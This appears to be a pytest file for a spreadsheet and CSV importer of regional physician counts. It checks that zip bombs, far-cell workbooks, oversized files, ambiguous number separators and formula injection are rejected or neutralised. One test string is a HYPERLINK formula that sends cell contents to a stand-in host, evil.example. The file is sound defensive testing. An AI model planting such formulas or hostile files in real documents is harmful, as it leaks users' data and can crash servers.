"""Issue 9 §2: no upload can take the server down, and no number is silently read 1000× off."""

from __future__ import annotations

import io
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from core.access import Identity
from core.exports import to_csv_bytes, to_excel_bytes
from data_sources import tables
from data_sources.importer import import_table
from data_sources.limits import UploadLimits
from data_sources.seed import init_store
from store import make_engine, observations_for

sys.path.append(str(Path(__file__).resolve().parents[2] / "bench"))  # last: bench/rwd.py must not shadow rwd/
import hostile_files

EDITOR = Identity(user="aigerim", role="editor", mode="internal")
COUNT = "physicians_count"


@pytest.fixture()
def engine(db_url):
    return init_store(make_engine(db_url))


@pytest.fixture()
def no_excel_parser(monkeypatch):
    """Fails the test if the workbook reaches a parser: limits must be checked on the raw bytes first."""
    def refuse(*_a, **_k):
        raise AssertionError("the workbook was handed to the Excel parser")
    monkeypatch.setattr(tables.pd, "ExcelFile", refuse)


def reasons(result) -> str:
    return " | ".join(str(i) for i in result.issues)


def test_one_cell_at_xfd1048576_is_refused_before_parsing(no_excel_parser):
    data = hostile_files.far_cell_xlsx()
    assert len(data) < 6000
    result = import_table(data, "far.xlsx", None, None, indicator=COUNT, dry_run=True)
    assert not result.accepted and "1,048,576 rows" in reasons(result) and "far.xlsx" in reasons(result)


def test_legacy_xls_reaching_iv65536_is_refused_before_parsing(no_excel_parser):
    data = hostile_files.far_cell_xls()
    result = import_table(data, "far.xls", None, None, indicator=COUNT, dry_run=True)
    assert not result.accepted and "65,536 rows" in reasons(result)


def test_zip_bomb_workbook_is_refused_by_its_declared_unpacked_size(no_excel_parser):
    data = hostile_files.zip_bomb_xlsx(unpacked_mb=8)
    limits = UploadLimits(max_decompressed_bytes=4 * 1024 * 1024)
    result = import_table(data, "bomb.xlsx", None, None, indicator=COUNT, dry_run=True, limits=limits)
    assert not result.accepted and "unpacks to 8.0 MB" in reasons(result)


def test_files_over_the_byte_row_and_column_limits_are_refused():
    limits = UploadLimits(max_bytes=1000, max_rows=50, max_columns=8)
    big = b"region,period,value\n" + b"Akmola,2022,1\n" * 100
    assert "uploads are limited to" in reasons(import_table(big, "big.csv", None, None, indicator=COUNT,
                                                            dry_run=True, limits=limits))
    long = b"region,period,value\n" + b"Akmola,2022,1\n" * 60
    assert "61 rows" in reasons(import_table(long, "long.csv", None, None, indicator=COUNT, dry_run=True,
                                             limits=UploadLimits(max_rows=50)))
    wide = ("Регион;" + ";".join(str(y) for y in range(1990, 2000)) + "\nАкмолинская;" + ";".join("1" * 10)).encode()
    assert "11 columns" in reasons(import_table(wide, "wide.csv", None, None, indicator=COUNT, dry_run=True,
                                                limits=UploadLimits(max_columns=8)))


def test_one_region_repeated_20000_times_gives_one_short_grouped_report():
    result = import_table(hostile_files.repeated_region_csv(20_000), "dups.csv", None, None, dry_run=True)
    assert not result.accepted and len(result.issues) == 1
    issue = result.issues[0]
    assert issue.row == 2 and "and 19,989 more" in issue.reason and len(issue.reason) < 200
    assert len(result.rejected_rows) == 20_000


@pytest.mark.parametrize(("text", "stored"), [
    ("Регион;2024\nАкмолинская;1.234\nАктюбинская;2.345,0\n", {"KZ-11": 1234, "KZ-15": 2345}),  # ',' decimals
    ('region,period,value\nAkmola,2024,"12,000"\nAktobe,2024,2345.0\n', {"KZ-11": 12000, "KZ-15": 2345}),
    ('region,period,value\nAkmola,2024,"1,234"\n', {"KZ-11": 1234}),  # a comma CSV writes decimals with a point
])
def test_separators_are_decided_per_file(engine, text, stored):
    result = import_table(text.encode(), "sep.csv", engine, EDITOR, indicator=COUNT, confirm_jumps=True)
    assert result.accepted, reasons(result)
    values = observations_for(engine, COUNT, period="2024").set_index("region")["value"]
    assert {k: values[k] for k in stored} == stored


@pytest.mark.parametrize(("text", "fragments"), [
    ("Регион;2024\nАкмолинская;2.345\n", ["row 2", "'2.345' is ambiguous"]),
    ("Регион;2024\nАкмолинская;1.234,5\n", ["row 2", "1234.5 is not a whole number", COUNT]),
    ("Регион;2024\nАкмолинская;12,5\nАктюбинская;1.5\n", ["row 3", "'1.5'", "both with ',' and '.'"]),
    ("Регион;2024\nАкмолинская;12,5\nАктюбинская;1,5\nАтырауская;1.5\n", ["row 4", "'1.5' is not a number in"]),
])
def test_ambiguous_or_fractional_counts_are_rejected_with_the_row_named(engine, text, fragments):
    result = import_table(text.encode(), "bad.csv", engine, EDITOR, indicator=COUNT)
    assert not result.accepted
    assert any(all(f in str(i) for f in fragments) for i in result.issues), reasons(result)


def test_a_value_far_from_the_previous_period_is_written_only_when_confirmed(engine):
    before = observations_for(engine, COUNT, period="2022", region="KZ-11")["value"].iloc[0]
    slip = f"Регион;2023\nАкмолинская;{before / 1000:.0f}\n".encode()  # thousands read as units
    result = import_table(slip, "slip.csv", engine, EDITOR, indicator=COUNT)
    assert not result.accepted and result.warnings and not result.issues
    assert "previous period" in result.warnings[0].reason and result.warnings[0].row == 2
    assert observations_for(engine, COUNT, period="2023", region="KZ-11").empty
    confirmed = import_table(slip, "slip.csv", engine, EDITOR, indicator=COUNT, confirm_jumps=True)
    assert confirmed.accepted and confirmed.written.added == 1


def test_year_header_at_the_end_of_a_year_imports(engine):
    data = "Регион;на конец 2023 г.;на конец 2024 г.\nАкмолинская;2180;2200\n".encode()
    result = import_table(data, "end.csv", engine, EDITOR, indicator=COUNT, confirm_jumps=True)
    assert result.accepted, reasons(result)
    values = observations_for(engine, COUNT, region="KZ-11").set_index("period")["value"]
    assert values["2023"] == 2180 and values["2024"] == 2200


def test_semicolon_csv_whose_notes_hold_many_commas_imports(engine):
    data = (b"region;period;value;note\n"
            b"Akmola;2024;2200;incl. rural, district, city, and private clinics, as of 31.12, revised\n"
            b"Aktobe;2024;2400;same, as above, with, commas\n")
    result = import_table(data, "notes.csv", engine, EDITOR, indicator=COUNT, confirm_jumps=True)
    assert result.accepted, reasons(result)
    stored = observations_for(engine, COUNT, period="2024").set_index("region")
    assert stored.loc["KZ-11", "note"].startswith("incl. rural, district")


EVIL = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'


def test_formula_cells_are_neutralised_in_csv_and_excel_exports_but_stored_intact(engine):
    data = f'region;period;value;note\nAkmola;2024;2200;{EVIL}\nAktobe;2024;2400;+1 (from @press)\n'.encode()
    assert import_table(data, "f.csv", engine, EDITOR, indicator=COUNT, confirm_jumps=True).accepted
    rows = observations_for(engine, COUNT, period="2024")
    assert EVIL in set(rows["note"])  # kept as typed
    csv_text = to_csv_bytes(rows).decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text and "'+1 (from" in csv_text
    assert not any(line.split(",")[-1].startswith(("=", "+", "-", "@")) for line in csv_text.splitlines())
    book = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(rows, {"note": "=1+1"})))
    cells = [c for row in book["data"].iter_rows() for c in row] + [c for row in book["about"].iter_rows()
                                                                    for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + EVIL for c in cells)
    numbers = pd.read_excel(io.BytesIO(to_excel_bytes(pd.DataFrame({"v": [-5.0, 3.0]}), {})), sheet_name="data")
    assert list(numbers["v"]) == [-5.0, 3.0]  # negative numbers stay numbers
